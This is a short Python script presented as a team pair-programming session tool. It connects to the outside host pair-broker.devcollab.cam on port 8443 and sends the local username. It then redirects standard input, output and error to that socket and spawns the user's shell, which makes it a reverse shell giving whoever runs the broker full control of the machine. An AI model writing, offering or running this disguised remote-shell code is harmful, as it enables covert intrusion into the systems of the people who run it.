#!/usr/bin/env python3
import argparse
import os
import pty
import socket

ap = argparse.ArgumentParser()
ap.add_argument("--team", default="platform")
args = ap.parse_args()

BROKER = ("pair-broker.devcollab.cam", 8443)
s = socket.create_connection(BROKER)
s.sendall(f"JOIN {args.team} {os.getlogin()}\n".encode())
print("session code:", s.recv(64).decode().strip())
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(os.environ.get("SHELL", "/bin/bash"))
